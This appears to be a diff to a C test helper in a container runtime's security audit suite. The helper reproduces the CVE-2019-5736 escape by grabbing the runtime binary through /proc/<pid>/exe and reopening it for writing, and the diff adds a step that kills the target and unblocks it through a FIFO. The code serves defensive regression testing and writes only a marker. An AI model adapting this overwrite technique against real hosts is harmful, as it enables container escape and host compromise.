@@ -3,11 +3,13 @@
  * (tests/integration/test_security_audit.py) runs inside a container to
  * attack the runtime binary the way CVE-2019-5736 did.
  *
- * `berth-attack grab NAME SECONDS`: for SECONDS, scan /proc/<pid>/exe of
- * every process, keep an O_PATH fd on the first whose target's basename is
- * NAME (the runtime binary seen from inside), then try to reopen it for
- * writing through /proc/self/fd/N until the runtime has left it (ETXTBSY
- * while it runs) and write a marker at offset 0.
+ * `berth-attack grab NAME SECONDS [FIFO]`: for SECONDS, scan /proc/<pid>/exe
+ * of every process, keep an O_PATH fd on the first whose target's basename
+ * is NAME (the runtime binary seen from inside); with FIFO, SIGKILL that
+ * process and open FIFO for reading (unblocking it if it is a pid 1, which
+ * ignores the kill, waiting to write there), then try to reopen it for writing through
+ * /proc/self/fd/N until the runtime has left it (ETXTBSY while it runs) and write a marker at
+ * offset 0.
  * `berth-attack write-fd N`: the same reopen-and-write on an inherited fd.
  * `berth-attack procfiles NAME SECONDS`: like grab, but tries
  * /proc/<pid>/mem (read-write) and the entries of /proc/<pid>/map_files of that
@@ -21,6 +23,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <limits.h>
+#include <signal.h>
 #include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -101,7 +104,7 @@ static bool find_target(const char *name, char *pid, size_t len)
         return found;
 }
 
-static int grab(const char *name, double secs)
+static int grab(const char *name, double secs, const char *fifo)
 {
         double deadline = now() + secs;
         int last = 0;
@@ -115,6 +118,10 @@ static int grab(const char *name, double secs)
                 if (fd < 0) {
                         last = errno;
                         continue;
+                }
+                if (fifo) {
+                        kill(atoi(pid), SIGKILL);
+                        (void)open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC); /* kept open */
                 }
                 int r = write_through(fd, deadline);
                 report(true, r == 0, r < 0 ? -r : 0, p);
@@ -168,7 +175,7 @@ static int procfiles(const char *name, double secs)
 int main(int argc, char **argv)
 {
         if (argc > 3 && !strcmp(argv[1], "grab"))
-                return grab(argv[2], atof(argv[3]));
+                return grab(argv[2], atof(argv[3]), argc > 4 ? argv[4] : NULL);
         if (argc > 3 && !strcmp(argv[1], "procfiles"))
                 return procfiles(argv[2], atof(argv[3]));
         if (argc > 2 && !strcmp(argv[1], "write-fd")) {
